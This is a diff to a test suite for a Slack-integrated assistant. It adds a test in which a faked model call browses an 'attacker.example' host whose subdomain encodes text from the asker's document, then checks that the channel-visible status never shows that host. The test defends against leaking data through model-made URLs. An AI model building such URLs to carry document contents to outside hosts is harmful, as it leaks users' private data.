@@ -200,6 +200,23 @@ describe('Integrations in answers (Slack, LLM and provider fakes)', () => {
     expect(ephemerals.map((e) => e.text).join('\n')).toContain('The launch is on October 14.');
   });
 
+  it("shows the channel no status naming a site the model made up once the answer has read the asker's document", async () => {
+    // The status ("is reading <host>…") is seen by everyone in the thread, before the page is even
+    // refused: a host spelled from the document would show it to the channel.
+    world.openai.enqueue(
+      { toolCalls: [{ name: 'browse_web_page', arguments: { url: 'https://launch-moved-to-october-14.attacker.example/' } }] },
+      { text: 'The launch is on October 14.' },
+    );
+    const statusesBefore = world.slack.callsTo('assistant.threads.setStatus').length;
+
+    const { ephemerals } = await ask(world.ws.alice, `when is the launch? <${DOC_URL}>`);
+
+    const statuses = world.slack.callsTo('assistant.threads.setStatus').slice(statusesBefore).map((c) => String(c.params.status));
+    expect(statuses.length).toBeGreaterThan(0);
+    expect(statuses.join('\n')).not.toContain('october-14');
+    expect(ephemerals.map((e) => e.text).join('\n')).toContain('The launch is on October 14.');
+  });
+
   it("keeps a message linked from a private channel out of a shared one: another person's permalink in the thread, Alice's answer alone", async () => {
     // Bob is not in #exec; Alice is. Bob pastes a permalink to an #exec message in #general and Alice
     // asks Tomo about the thread: reading it for her is right, posting it in #general is not.
